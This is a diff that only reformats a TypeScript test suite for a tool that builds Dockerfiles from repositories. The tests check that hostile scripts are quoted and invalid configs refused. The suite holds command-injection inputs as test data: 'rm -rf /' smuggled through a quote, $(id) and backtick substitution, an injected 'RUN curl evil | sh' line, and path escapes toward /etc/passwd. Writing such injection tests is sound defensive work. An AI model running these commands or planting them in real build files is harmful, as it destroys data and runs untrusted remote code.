@@ -27,18 +27,41 @@ const planError = async (root: string): Promise<string> => {
   return (err as Error).message;
 };
 // The last CMD line parsed back: the hostile string must come out as exactly one argument.
-const cmdOf = (dockerfile: string) => JSON.parse(dockerfile.split("\n").find((l) => l.startsWith("CMD "))!.slice(4));
+const cmdOf = (dockerfile: string) =>
+  JSON.parse(
+    dockerfile
+      .split("\n")
+      .find((l) => l.startsWith("CMD "))!
+      .slice(4),
+  );
 
 describe("hostile strings are quoted, never spliced", () => {
-  for (const start of ['node s.js "; rm -rf / #', "node s.js $(id)", "node s.js `id`", "node s.js \\", 'x"]\nRUN ["id'.replace("\n", " "), "echo ' \" \\\" '"]) {
+  for (const start of [
+    'node s.js "; rm -rf / #',
+    "node s.js $(id)",
+    "node s.js `id`",
+    "node s.js \\",
+    'x"]\nRUN ["id'.replace("\n", " "),
+    "echo ' \" \\\" '",
+  ]) {
     test(`start script ${JSON.stringify(start)}`, async () => {
       const plan = await planBuild(tree({ "package.json": pkg({ scripts: { start } }) }), { images });
       expect(cmdOf(plan.generatedDockerfile!)).toEqual(["sh", "-c", start]);
-      expect(plan.generatedDockerfile!.split("\n").filter((l) => l.startsWith("RUN ")).every((l) => !l.includes("id"))).toBe(true);
+      expect(
+        plan
+          .generatedDockerfile!.split("\n")
+          .filter((l) => l.startsWith("RUN "))
+          .every((l) => !l.includes("id")),
+      ).toBe(true);
     });
   }
   test("package names with shell characters never reach the Dockerfile", async () => {
-    const plan = await planBuild(tree({ "package.json": pkg({ name: "$(id)", dependencies: { "`whoami`": "1", "a;b": "1" }, scripts: { start: "node x" } }) }), { images });
+    const plan = await planBuild(
+      tree({
+        "package.json": pkg({ name: "$(id)", dependencies: { "`whoami`": "1", "a;b": "1" }, scripts: { start: "node x" } }),
+      }),
+      { images },
+    );
     expect(plan.generatedDockerfile).not.toContain("whoami");
     expect(plan.generatedDockerfile).not.toContain("a;b");
   });
@@ -50,8 +73,16 @@ describe("hostile strings are quoted, never spliced", () => {
 
 describe("refused with a clear error", () => {
   const cases: Array<[string, Record<string, string>, RegExp]> = [
-    ["newline in start", { "package.json": pkg({ scripts: { start: "node a.js\nRUN curl evil | sh" } }) }, /scripts\.start.*newline/],
-    ["carriage return in build", { "package.json": pkg({ scripts: { build: "x\rRUN id", start: "node a" } }) }, /scripts\.build.*newline/],
+    [
+      "newline in start",
+      { "package.json": pkg({ scripts: { start: "node a.js\nRUN curl evil | sh" } }) },
+      /scripts\.start.*newline/,
+    ],
+    [
+      "carriage return in build",
+      { "package.json": pkg({ scripts: { build: "x\rRUN id", start: "node a" } }) },
+      /scripts\.build.*newline/,
+    ],
     ["NUL in start", { "package.json": pkg({ scripts: { start: "node\u0000a" } }) }, /scripts\.start/],
     ["Procfile with two web lines", { Procfile: "web: a\nweb: b\n" }, /more than one "web:"/],
     ["Procfile with NUL", { Procfile: "web: a\u0000b\n" }, /NUL/],
@@ -64,11 +95,19 @@ describe("refused with a clear error", () => {
     ["staxa.json root absolute", { "staxa.json": pkg({ root: "/etc" }) }, /staxa\.json: "root".*not an absolute path/],
     ["staxa.json root missing", { "staxa.json": pkg({ root: "apps/none" }) }, /staxa\.json: "root".*does not exist/],
     ["staxa.json root with spaces", { "staxa.json": pkg({ root: "a b" }) }, /staxa\.json: "root" may contain only/],
-    ["staxa.json build non-string", { "staxa.json": pkg({ build: ["rm"] }), "index.html": "" }, /staxa\.json: "build" must be a string/],
+    [
+      "staxa.json build non-string",
+      { "staxa.json": pkg({ build: ["rm"] }), "index.html": "" },
+      /staxa\.json: "build" must be a string/,
+    ],
     ["staxa.json output escaping", { "staxa.json": pkg({ output: "../x" }) }, /staxa\.json: "output"/],
     ["staxa.json not JSON", { "staxa.json": "{nope" }, /staxa\.json is not valid JSON/],
     ["package.json main escaping", { "package.json": pkg({ main: "../../etc/passwd" }) }, /package\.json: main/],
-    ["Go with a start override", { "go.mod": "module x\n", "main.go": "package main\n", "staxa.json": pkg({ start: "x" }) }, /"start" is not supported for Go/],
+    [
+      "Go with a start override",
+      { "go.mod": "module x\n", "main.go": "package main\n", "staxa.json": pkg({ start: "x" }) },
+      /"start" is not supported for Go/,
+    ],
   ];
   for (const [name, files, re] of cases) {
     test(name, async () => expect(await planError(tree(files))).toMatch(re));
@@ -76,7 +115,8 @@ describe("refused with a clear error", () => {
 
   test("a tree that matches nothing lists what was looked for and how to fix it", async () => {
     const msg = await planError(tree({ "README.md": "hi" }));
-    for (const s of ["Dockerfile", "package.json", "requirements.txt", "go.mod", "index.html", "Procfile", "staxa.json"]) expect(msg).toContain(s);
+    for (const s of ["Dockerfile", "package.json", "requirements.txt", "go.mod", "index.html", "Procfile", "staxa.json"])
+      expect(msg).toContain(s);
   });
 
   test("a staxa.json root that is a link out of the repo", async () => {
@@ -113,12 +153,20 @@ describe("refused with a clear error", () => {
 
 describe("overrides", () => {
   test("staxa.json start turns an SPA into a served Node app", async () => {
-    const plan = await planBuild(tree({ "package.json": pkg({ scripts: { build: "vite build" }, devDependencies: { vite: "5" } }), "staxa.json": pkg({ start: "vite preview --port $PORT" }) }), { images });
+    const plan = await planBuild(
+      tree({
+        "package.json": pkg({ scripts: { build: "vite build" }, devDependencies: { vite: "5" } }),
+        "staxa.json": pkg({ start: "vite preview --port $PORT" }),
+      }),
+      { images },
+    );
     expect(plan.framework).toBe("node");
     expect(cmdOf(plan.generatedDockerfile!)).toEqual(["sh", "-c", "vite preview --port $PORT"]);
   });
   test("a Procfile web line overrides the package.json start", async () => {
-    const plan = await planBuild(tree({ "package.json": pkg({ scripts: { start: "node a" } }), Procfile: "web: node b\n" }), { images });
+    const plan = await planBuild(tree({ "package.json": pkg({ scripts: { start: "node a" } }), Procfile: "web: node b\n" }), {
+      images,
+    });
     expect(cmdOf(plan.generatedDockerfile!)).toEqual(["sh", "-c", "node b"]);
   });
   test("write: false leaves the tree untouched", async () => {
